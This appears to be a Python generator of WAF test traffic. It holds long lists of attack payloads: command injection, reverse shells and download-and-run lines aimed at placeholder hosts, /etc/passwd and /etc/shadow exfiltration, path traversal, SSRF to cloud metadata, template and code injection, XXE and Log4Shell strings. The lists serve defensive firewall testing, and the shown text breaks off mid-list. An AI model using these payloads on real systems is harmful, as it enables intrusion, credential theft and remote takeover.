"""Blind set "thirteenth": command injection (Unix shells, Windows cmd and PowerShell), local and remote file
access (traversal, system/application/secret files, wrappers, UNC and data: includes), the "generic" families
(SSRF, Node.js / Ruby / Python code injection, prototype pollution, deserialization markers, XXE, LDAP and
XPath injection, mail header / CRLF injection) and Java (Log4Shell-style lookups, expression languages, class
names, deserialization), with benign requests from real users that carry the same vocabulary (sysadmins and
developers chatting about shells, paths, configs and stack traces; file names; links; support tickets with
Windows paths and IP addresses; JSON settings).

Authorship and independence: written by a helper session from its own general knowledge of each technique
and of real traffic, without reading this project's WAF rules (lua/), its WAF configuration or exclusions,
the CRS ruleset files or its regression tests, the shared corpus, the other generators' payload or text lists,
or any public payload list. It was measured once, when finished, and not changed after seeing what the WAF
blocked. Each attack payload goes into three of our input places (query, form, JSON, cookie, header), rotating
as family_gen_blind_php.attacks does; some more go into the URL path, a parameter name, User-Agent, Referer,
X-Forwarded-For, other headers, a cookie name, a multipart file name, a JSON key or an XML body.
Same record schema as family_gen.py; deterministic.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose, three_places
from .records import numbered, print_records

# ---------------------------------------------------------------------------------------------------------------
# attacks, by family and sub-family
# ---------------------------------------------------------------------------------------------------------------

RCE: dict[str, list[str]] = {
    "unix-separator": [
        ";id",
        "; id",
        "|id",
        "||id",
        "&& id",
        "& whoami &",
        "\nid\n",
        "\r\nid",
        "127.0.0.1;cat /etc/passwd",
        "127.0.0.1 | cat /etc/passwd",
        "8.8.8.8 && uname -a",
        "x || ping -c 10 127.0.0.1",
        "a\ncat /etc/shadow",
        "foo.jpg;rm -rf /tmp/*",
        "1;/bin/sh -i",
        "report.pdf | nc 203.0.113.7 4444",
        "'; id; '",
        "1.1.1.1;uname${IFS}-a",
    ],
    "unix-substitution": [
        "$(id)",
        "`id`",
        "$(whoami)",
        "`uname -a`",
        "x$(cat /etc/passwd)",
        "$(curl -s http://203.0.113.7/x|sh)",
        "`wget -qO- http://evil.example/s.sh|bash`",
        "<(id)",
        ">(nc 203.0.113.7 80)",
        "nslookup $(whoami).x.oast.example",
        "dig `hostname`.dns.attacker.test",
        "$(</etc/passwd)",
        "${IFS}$(id)",
    ],
    "unix-evasion": [
        "c'a't /etc/passwd",
        "c\"a\"t /e\"t\"c/pa\"ss\"wd",
        "c\\at /et\\c/pas\\swd",
        ";/???/c?t /???/p??s??",
        ";/bin/c[a]t /etc/pass[w]d",
        ";cat${IFS}/etc/passwd",
        ";cat$IFS$9/etc/passwd",
        ";cat</etc/passwd",
        ";{cat,/etc/passwd}",
        ";{ls,-la,/}",
        ";w'h'o'am'i",
        ";wh$()oami",
        ";who$@ami",
        ";i\\d",
        ";a=c;b=at;$a$b /etc/passwd",
        ";$(printf '\\x69\\x64')",
        ";echo 'aWQ=' | base64 -d | sh",
        ";echo 6964 | xxd -r -p | sh",
        ";$(rev<<<'di')",
        ";cat ${HOME:0:1}etc${HOME:0:1}passwd",
        ";tr 'a-z' 'n-za-m' <<< 'vq' | sh",
        ";X=$'\\x69\\x64';$X",
        "|${SHELL} -c id",
        ";cat /e*/p*d",
        "127.0.0.1%0aid",
        "127.0.0.1%3Bcat%20%2Fetc%2Fpasswd",
        "%24%28id%29",
        ";\"/bin\"/\"sh\" -c id",
        ";{echo,aWQ=}|{base64,-d}|sh",
        ";cat /etc/{passwd,shadow}",
    ],
    "windows-cmd": [
        "& whoami",
        "| whoami /all",
        "&& dir C:\\",
        "| type C:\\Windows\\win.ini",
        "& net user",
        "& net user hacker P@ssw0rd1 /add",
        "127.0.0.1 & systeminfo",
        "| cmd.exe /c dir",
        "& cmd /c \"echo %USERNAME%\"",
        "&ping -n 10 127.0.0.1&",
        "| certutil -urlcache -split -f http://203.0.113.7/a.exe %TEMP%\\a.exe",
        "& bitsadmin /transfer j http://evil.example/p.exe C:\\Users\\Public\\p.exe",
        "& rundll32.exe \\\\203.0.113.7\\share\\x.dll,Main",
        "| mshta http://evil.example/x.hta",
        "& regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll",
        "&wmic process call create \"calc.exe\"",
        "&c^m^d /c who^ami",
        "&set x=who&&set y=ami&&call %x%%y%",
        "%COMSPEC% /c whoami",
        "& %SystemRoot%\\System32\\cmd.exe /c ver",
        "&for /f %i in ('whoami') do nslookup %i.attacker.test",
        "| findstr /si password *.config",
        "& reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
        "&& del /f /q C:\\inetpub\\wwwroot\\*",
        "& %ComSpec:~-7,3% /c whoami",
        "& schtasks /create /sc minute /tn upd /tr \"cmd /c whoami > C:\\Users\\Public\\o.txt\"",
    ],
    "powershell": [
        "; powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/p.ps1')\"",
        "| powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "& powershell.exe -ExecutionPolicy Bypass -File \\\\203.0.113.7\\s\\a.ps1",
        "; Invoke-WebRequest -Uri http://evil.example/x -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe",
        "| iex (iwr http://evil.example/a.ps1 -UseBasicParsing)",
        "; Get-Content C:\\Windows\\win.ini",
        "; gc $env:USERPROFILE\\.aws\\credentials",
        "& pwsh -c \"Get-ChildItem Env:\"",
        "; Start-Sleep -s 10",
        "| &('I'+'EX')('whoami')",
        "; [System.Diagnostics.Process]::Start('cmd.exe','/c whoami')",
        "; $c=New-Object System.Net.Sockets.TCPClient('203.0.113.7',443);$s=$c.GetStream()",
        "& powershell -c \"(New-Object System.Net.WebClient).DownloadFile('http://evil.example/b.exe','b.exe')\"",
        "; Set-MpPreference -DisableRealtimeMonitoring $true",
        "| powershell -noni -nop -c \"iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))\"",
        "; & (gcm i*x) 'whoami'",
    ],
    "reverse-shell": [
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        ";bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
        "; sh -i >& /dev/udp/203.0.113.7/53 0>&1",
        "| nc -e /bin/sh 203.0.113.7 4444",
        "; ncat 203.0.113.7 443 -e /bin/bash",
        "; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f",
        "; nc -lvnp 31337 -e /bin/sh",
        "; socat TCP-LISTEN:9001,reuseaddr,fork EXEC:/bin/sh",
        "; socat tcp-connect:203.0.113.7:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane",
        "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));"
        "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
        "; perl -e 'use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
        "connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
        "; php -r '$s=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
        "; ruby -rsocket -e 'f=TCPSocket.open(\"203.0.113.7\",4444).to_i;"
        "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
        "; awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.7/4444\";while(1){s|&getline c;if(c){while((c|&getline)>0)"
        "print $0|&s;close(c)}}}'",
        "0<&196;exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196",
        "; exec 5<>/dev/tcp/203.0.113.7/80;cat <&5 | while read line; do $line 2>&5 >&5; done",
        "; openssl s_client -quiet -connect 203.0.113.7:443|/bin/sh|openssl s_client -quiet -connect 203.0.113.7:444",
        "; node -e 'require(\"child_process\").exec(\"nc 203.0.113.7 4444 -e /bin/sh\")'",
    ],
    "downloader": [
        "; curl http://evil.example/x.sh | sh",
        "; curl -fsSL https://evil.example/i.sh | bash",
        "; wget http://203.0.113.7/bot -O /tmp/bot; chmod +x /tmp/bot; /tmp/bot",
        "|wget -q -O- http://evil.example/m|sh",
        "; curl -o /tmp/.x http://198.51.100.23/x && chmod 777 /tmp/.x && /tmp/.x",
        "; tftp -g -r mips 203.0.113.7; chmod +x mips; ./mips",
        "; cd /tmp; busybox wget http://203.0.113.7/arm7; sh arm7",
        "; curl -d @/etc/passwd http://evil.example/collect",
        "; curl -F 'f=@/etc/shadow' http://evil.example/up",
        "; wget --post-file=/etc/passwd http://evil.example/",
        "; python -c \"import urllib.request;exec(urllib.request.urlopen('http://evil.example/p').read())\"",
        "; git clone http://evil.example/r.git /tmp/r && sh /tmp/r/run.sh",
    ],
    "time-probe": [
        "; sleep 5",
        "| sleep 10 |",
        "& ping -c 5 127.0.0.1 &",
        "`sleep 7`",
        "$(sleep 3)",
        "||sleep${IFS}9",
        "& ping -n 11 127.0.0.1 &",
        "& waitfor /t 8 nothing",
        "; perl -e 'sleep 6'",
        "; python3 -c 'import time;time.sleep(8)'",
        "x;sleep\t5",
        "a\nsleep 4\n",
    ],
    "shellshock": [
        "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'",
        "() { :;}; /bin/sh -c id",
        "() { _; } >_[$($())] { id; }",
        "() { :; }; /usr/bin/wget http://evil.example/s -O /tmp/s",
        "() { ignored; }; echo Content-Type: text/plain; echo; id",
        "() { x() { _; }; x() { _; } <<a; }",
        "() { (a)=>\\",
        "() { :; }; ping -c 3 203.0.113.7",
    ],
}

LFI: dict[str, list[str]] = {
    "traversal": [
        "../../../../etc/passwd",
        "../../../../../../../../etc/passwd",
        "....//....//....//etc/passwd",
        "..././..././..././etc/passwd",
        "..\\..\\..\\..\\windows\\win.ini",
        "..%2f..%2f..%2fetc%2fpasswd",
        "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%252f..%252f..%252fetc%252fpasswd",
        "%2e%2e/%2e%2e/%2e%2e/etc/shadow",
        "..%c0%af..%c0%af..%c0%afetc/passwd",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
        "..\u2215..\u2215etc\u2215passwd",
        "..\uff0f..\uff0f..\uff0fetc\uff0fpasswd",
        "..;/..;/..;/etc/passwd",
        "/var/www/html/../../../etc/passwd",
        "images/../../../../etc/passwd",
        "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
        "./../.././../etc/./passwd",
        "%252e%252e%252fetc%252fpasswd",
        "/..%2f..%2f..%2f..%2fetc%2fhosts",
        "file/../../../../../../proc/self/environ",
        "../" * 30 + "etc/passwd",
        "..",
        "../",
        "..\\",
    ],
    "nul-length": [
        "../../../../etc/passwd\x00.png",
        "../../../../etc/passwd%00.jpg",
        "/etc/passwd\x00",
        "../../../etc/passwd" + "/." * 300,
        "..%00/..%00/etc/passwd",
    ],
    "unix-absolute": [
        "/etc/passwd",
        "/etc/shadow",
        "/etc/hosts",
        "/root/.ssh/id_rsa",
        "/home/ubuntu/.ssh/authorized_keys",
        "/root/.bash_history",
        "/var/log/apache2/access.log",
        "/var/log/nginx/error.log",
        "/usr/local/etc/php/php.ini",
        "/etc/nginx/nginx.conf",
        "/etc/apache2/sites-enabled/000-default.conf",
        "/etc/sudoers",
    ],
    "proc-dev": [
        "/proc/self/environ",
        "/proc/self/cmdline",
        "/proc/1/maps",
        "/proc/self/fd/3",
        "/proc/self/cwd/app.py",
        "/proc/net/tcp",
        "/dev/fd/0",
        "/dev/urandom",
    ],
    "windows-absolute": [
        "C:\\Windows\\win.ini",
        "c:/windows/system32/drivers/etc/hosts",
        "C:\\boot.ini",
        "C:\\Windows\\System32\\config\\SAM",
        "C:\\inetpub\\wwwroot\\web.config",
        "\\\\?\\C:\\Windows\\win.ini",
        "C:\\Windows\\Panther\\Unattend.xml",
        "%SYSTEMROOT%\\win.ini",
    ],
    "app-secrets": [
        "../.env",
        "../../config/database.yml",
        "../../../app/config/parameters.yml",
        "../WEB-INF/web.xml",
        "/WEB-INF/classes/application.properties",
        "../../wp-config.php",
        "../../.aws/credentials",
        "../../.docker/config.json",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "../settings.py",
        "../../.htpasswd",
        "../.htaccess",
    ],
    "vcs-backup": [
        "../.git/config",
        ".git/HEAD",
        "../../.git/logs/HEAD",
        ".svn/entries",
        "../index.php.bak",
        "config.php~",
        "../.DS_Store",
    ],
    "wrapper": [
        "php://filter/convert.base64-encode/resource=index.php",
        "php://filter/read=string.rot13/resource=../config.php",
        "file:///etc/passwd",
        "file://localhost/etc/shadow",
        "zip:///var/www/uploads/a.zip#x.php",
        "phar://uploads/avatar.jpg/x.php",
        "jar:file:///opt/app/lib/app.jar!/application.properties",
        "compress.zlib:///etc/passwd",
        "expect://id",
        "netdoc:///etc/passwd",
    ],
}

RFI: dict[str, list[str]] = {
    "remote-url": [
        "http://evil.example/shell.txt?",
        "http://203.0.113.7/c99.txt",
        "https://evil.example/inc.php",
        "http://evil.example/shell.txt%00",
        "http://evil.example/shell.txt\x00",
        "http://evil.example/shell.txt#",
        "http://evil.example/x.txt??",
        "hTtP://evil.example/r57.txt",
        "HTTP://EVIL.EXAMPLE/SHELL.TXT",
        "//evil.example/shell.php",
        "http://0xcb.0x0.0x71.0x7/s.txt",
        "http://3405803783/shell.txt",
        "http://[::ffff:cb00:7107]/s.txt",
        "http://evil.example:8080/inc/config.txt?cmd=id",
        "https://pastebin.com/raw/xyz123AB",
        "https://raw.githubusercontent.com/attacker/tools/main/shell.php",
        "http://evil.example/shell.jpg?.php",
        "http://user@evil.example/shell.txt",
        "http://evil.example/sh.txt?/../../index",
        "http:\\\\evil.example\\x.php",
        "http://evil.example/shell.txt%3f",
        "http%3A%2F%2Fevil.example%2Fshell.txt",
        "https://evil.example/include.txt?ignore=",
        "ftp://anonymous:x@evil.example/shell.php",
        "ftps://evil.example/s.txt",
        "ssh2.sftp://user:pass@evil.example:22/shell.php",
    ],
    "unc": [
        "\\\\evil.example\\share\\shell.php",
        "\\\\203.0.113.7\\webdav\\x.php",
        "\\\\evil.example@SSL\\DavWWWRoot\\s.php",
        "\\\\evil.example@80\\share\\payload.php",
        "\\\\?\\UNC\\203.0.113.7\\share\\s.php",
        "file://203.0.113.7/share/shell.php",
        "smb://203.0.113.7/share/x.php",
        "//203.0.113.7/share/x.php",
    ],
    "data-uri": [
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
        "data:text/plain,<?php phpinfo();?>",
        "data://text/plain,<?php system('id');?>",
        "data:;base64,PD9waHAgZXZhbCgkX1BPU1RbMV0pOz8+",
        "php://input",
        "data:application/x-httpd-php;base64,PD9waHAgZWNobyAxOyA/Pg==",
    ],
}

GENERIC: dict[str, list[str]] = {
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://169.254.169.254/latest/user-data",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        "http://100.100.100.200/latest/meta-data/",
        "http://169.254.170.2/v2/credentials/",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://2852039166/latest/meta-data/",
        "http://0xa9fea9fe/",
        "http://0251.0376.0251.0376/",
        "http://0xa9.0xfe.0xa9.0xfe/latest/",
        "http://169.254.43518/",
        "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
        "http://[::ffff:169.254.169.254]/",
        "http://169.254.169.254.nip.io/latest/meta-data/",
        "http://127.0.0.1:6379/",
        "http://localhost:8500/v1/agent/self",
        "http://127.1/admin",
        "http://0/",
        "http://0.0.0.0:9200/_cat/indices",
        "http://[::1]:8080/actuator/env",
        "http://[0:0:0:0:0:ffff:127.0.0.1]/",
        "http://2130706433/server-status",
        "http://017700000001/",
        "http://0x7f000001/",
        "http://127.0.0.1.nip.io/",
        "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",
        "http://evil.example@127.0.0.1/",
        "http://127.0.0.1#@evil.example/",
        "http://example.com@169.254.169.254/",
        "http://10.0.0.5:2375/containers/json",
        "http://172.17.0.1:10250/pods",
        "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
        "gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall%0d%0a",
        "gopher://localhost:25/_HELO%20x%0d%0aMAIL%20FROM%3A%3Ca%40evil.example%3E",
        "dict://127.0.0.1:11211/stats",
        "ldap://localhost:389/dc=corp",
        "jar:http://evil.example/x.jar!/",
        "http://x7q2k9.oastify.com/",
    ],
    "nodejs": [
        "require('child_process').exec('id')",
        "process.mainModule.require('child_process').execSync('cat /etc/passwd').toString()",
        "global.process.mainModule.constructor._load('child_process').exec('ls')",
        "this.constructor.constructor('return process')().exit()",
        "res.end(require('fs').readFileSync('/etc/passwd'))",
        "process.kill(process.pid)",
        "while(true){}",
        "Array(1e9).fill('x').join('')",
        "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImlkIik=','base64').toString())",
        "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
        "new Function('return this.process')().mainModule.require('child_process').execSync('id')",
        "';return require('child_process').execSync('id')//",
        "{{constructor.constructor('return process')().env}}",
        "<%= global.process.mainModule.require('child_process').execSync('id') %>",
        "#{global.process.mainModule.require('child_process').execSync('id')}",
        "import('child_process').then(m=>m.execSync('id'))",
        "^(a+)+$",
        "(x+x+)+y",
    ],
    "pollution": [
        "{\"__proto__\":{\"isAdmin\":true}}",
        "constructor[prototype][admin]=1",
        "{\"constructor\":{\"prototype\":{\"polluted\":\"yes\"}}}",
        "__proto__.toString",
        "{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}",
        "a[__proto__][outputFunctionName]=_t;global.process.mainModule.require('child_process').execSync('id');var x",
        "{\"__proto__\":{\"execArgv\":[\"--eval=require('child_process').execSync('id')\"]}}",
    ],
    "ruby": [
        "#{`id`}",
        "<%= `ls -la` %>",
        "<%= system('cat /etc/passwd') %>",
        "Kernel.exec('id')",
        "%x(id)",
        "IO.popen('id').read",
        "open('|id')",
        "send(:system, 'id')",
        "instance_eval('`id`')",
        "--- !ruby/object:Gem::Installer\ni: x\n",
        "--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n? foo\n: bar\n",
    ],
    "python": [
        "__import__('os').system('id')",
        "__import__('os').popen('cat /etc/passwd').read()",
        "eval(compile('import os;os.system(\"id\")','x','exec'))",
        "exec('import subprocess;subprocess.call([\"id\"])')",
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{% import os %}{{ os.system('id') }}",
        "{{7*7}}",
        "getattr(__import__('subprocess'),'check_output')(['id'])",
        "().__class__.__bases__[0].__subclasses__()",
        "cos\nsystem\n(S'id'\ntR.",
        "!!python/object/apply:os.system ['id']",
        "!!python/object/new:subprocess.check_output [[\"ls\"]]",
    ],
    "deserialization": [
        "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
        "a:2:{i:0;O:14:\"GuzzleHttp\\Psr7\\FnStream\":1:{s:9:\"_fn_close\";s:6:\"system\";}i:1;s:2:\"id\";}",
        "AAEAAAD/////AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQuUG93ZXJTaGVsbC5FZGl0b3I=",
        "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\","
        "\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}",
        "gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
        "BAhvOkBBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbjo6RGVwcmVjYXRlZEluc3RhbmNlVmFyaWFibGVQcm94eQ==",
    ],
    "xxe": [
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
        "<!DOCTYPE foo [<!ENTITY % ext SYSTEM \"http://evil.example/x.dtd\"> %ext;]>",
        "<!ENTITY xxe SYSTEM \"http://169.254.169.254/latest/meta-data/\">",
        "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
        "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]><lolz>&lol3;</lolz>",
        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/passwd\"/>",
        "<!DOCTYPE x SYSTEM \"http://evil.example/evil.dtd\"><x/>",
        "<!ENTITY % file SYSTEM \"php://filter/convert.base64-encode/resource=/etc/passwd\">",
        "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-!DOCTYPE x +AFs-+ADw-!ENTITY y SYSTEM "
        "+ACI-file:///etc/hosts+ACI-+AD4-+AF0-+AD4-",
        "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\">"
        "<text>&x;</text></svg>",
    ],
    "ldap": [
        "*)(uid=*))(|(uid=*",
        "admin)(&)",
        "*)(|(objectClass=*)",
        "admin*)((|userPassword=*)",
        "*)(cn=*))\x00",
        "x)(|(mail=*))",
        "*()|&'",
        "jdoe)(|(password=*))",
    ],
    "xpath": [
        "' or '1'='1",
        "' or 1=1 or ''='",
        "x' or name()='username' or 'x'='y",
        "']|//user/*|//a['",
        "' and count(/*)=1 and '1'='1",
        "1 or string-length(name(/*[1]))>0",
        "'] | //password | //*['",
        "doc('http://evil.example/x')",
    ],
    "mail-crlf": [
        "victim@example.org\r\nBcc: list@evil.example",
        "x@example.org%0ACc:all@evil.example",
        "a@b.c\nSubject: hacked\n\nspam body",
        "foo\r\nSet-Cookie: session=attacker",
        "/redirect\r\nLocation: http://evil.example/",
        "user@example.org\r\nContent-Type: text/html\r\n\r\n<h1>phish</h1>",
        "%0d%0aX-Injected:%20yes",
        "\u560d\u560aSet-Cookie: x=1",
        "name\nRCPT TO:<victim@evil.example>",
        "-OQueueDirectory=/tmp -X/var/www/html/shell.php",
        "\"attacker\\\" -oQ/tmp/ -X/var/www/cache/phpcode.php some\"@email.com",
    ],
}

JAVA: dict[str, list[str]] = {
    "log4shell": [
        "${jndi:ldap://evil.example:1389/a}",
        "${jndi:rmi://203.0.113.7:1099/Exploit}",
        "${jndi:dns://x.oast.example/a}",
        "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/z}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/b}",
        "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/x}",
        "${jndi:ldap://${sys:java.version}.x.oast.example/}",
        "${${upper:j}ndi:ldaps://evil.example/c}",
        "${j${k8s:k5:-ND}i:ldap://evil.example/d}",
        "${jndi:iiop://evil.example/e}",
        "${jndi:corba://evil.example/f}",
        "${jndi:http://evil.example/g}",
        "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fh%7D",
        "${ctx:loginId}",
        "${env:HOME}",
        "${sys:user.name}",
        "${${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvaX0=}}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/j}",
    ],
    "expression": [
        "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
        "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
        "(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())",
        "${#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS}",
        "%{@java.lang.System@getProperty('user.dir')}",
        "#{T(java.lang.Runtime).getRuntime().exec('id')}",
        "${T(java.lang.System).getenv()}",
        "T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(),"
        "T(org.springframework.web.context.request.RequestContextHolder).currentRequestAttributes()"
        ".getResponse().getOutputStream())",
        "*{T(java.lang.Runtime).getRuntime().exec('whoami')}",
        "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
        "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
        "${applicationScope}",
        "${facesContext.externalContext.redirect('http://evil.example')}",
        "${\"\".getClass().forName(\"java.lang.Runtime\")}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "#set($e=\"\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null)"
        ".invoke(null,null).exec(\"id\")",
        "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i",
        "class.classLoader.URLs[0]=jar:http://evil.example/x.jar!/",
    ],
    "class-name": [
        "java.lang.Runtime",
        "java.lang.ProcessBuilder",
        "javax.script.ScriptEngineManager",
        "org.apache.commons.collections.functors.InvokerTransformer",
        "com.sun.rowset.JdbcRowSetImpl",
        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://evil.example:1389/x\","
        "\"autoCommit\":true}",
        "[\"ch.qos.logback.core.db.DriverManagerConnectionSource\","
        "{\"url\":\"jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://evil.example/i.sql'\"}]",
        "java.lang.Class.forName('javax.naming.InitialContext')",
        "org.springframework.context.support.ClassPathXmlApplicationContext",
        "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
    ],
    "deserialization": [
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0Nv"
        "bXBhcmF0b3I7eHAAAAACc3IAK29yZy5hcGFjaGUuY29tbW9ucy5iZWFudXRpbHMuQmVhbkNvbXBhcmF0b3I=",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAA"
        "eA==",
        "aced0005737200116a6176612e7574696c2e48617368536574",
        "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\">"
        "<void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>",
        "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler "
        "class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string>"
        "</command></target><action>start</action></handler></dynamic-proxy></sorted-set>",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]",
        "rO0AB",
    ],
}

FAMILIES: dict[str, dict[str, list[str]]] = {"rce": RCE, "lfi": LFI, "rfi": RFI, "generic": GENERIC, "java": JAVA}

NAMES: dict[str, list[str]] = {
    "rce": ["host", "ip", "target", "cmd", "domain", "filename", "addr", "args"],
    "lfi": ["file", "path", "page", "template", "doc", "include", "view", "lang"],
    "rfi": ["page", "include", "module", "template", "src", "load", "theme"],
    "generic": ["url", "webhook", "callback", "expr", "filter", "input", "to", "username"],
    "java": ["q", "search", "locale", "redirect", "message", "sort", "title"],
}


def _put(place: str, name: str, value: str) -> dict[str, Any]:
    """_place, with a header value made sendable (a header line carries no CR, LF or NUL)."""
    if place == "header":
        value = value.replace("\r\n", " ").replace("\n", " ").replace("\r", " ").replace("\x00", "%00")
    return _place(place, name, value)


# ---------------------------------------------------------------------------------------------------------------
# attacks in other places: (category, sub, placement, payload)
# ---------------------------------------------------------------------------------------------------------------

PATHS: list[tuple[str, str, str]] = [   # (category, sub, raw URI; the payload is the URI)
    ("lfi", "traversal", "/api/files/..%252f..%252f..%252f..%252fetc%252fpasswd"),
    ("lfi", "traversal", "/api/download/%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fshadow"),
    ("lfi", "app-secrets", "/api/v1/static/img/..;/..;/..;/WEB-INF/web.xml"),
    ("lfi", "app-secrets", "/api/v1/assets/a/b/c/..%2f..%2f..%2f.env"),
    ("lfi", "traversal", "/api/files/..%5c..%5c..%5cwindows%5cwin.ini"),
    ("lfi", "vcs-backup", "/api/.git/config"),
    ("rce", "unix-separator", "/api/ping/127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"),
    ("rce", "unix-substitution", "/api/exec/%24%28id%29"),
    ("rce", "downloader", "/api/hosts/x%7C%7Cwget%20-qO-%20http%3A%2F%2F203.0.113.7%2Fs%7Csh"),
    ("java", "log4shell", "/api/render/%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fp%7D"),
    ("generic", "ssrf", "/api/proxy/http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("generic", "python",
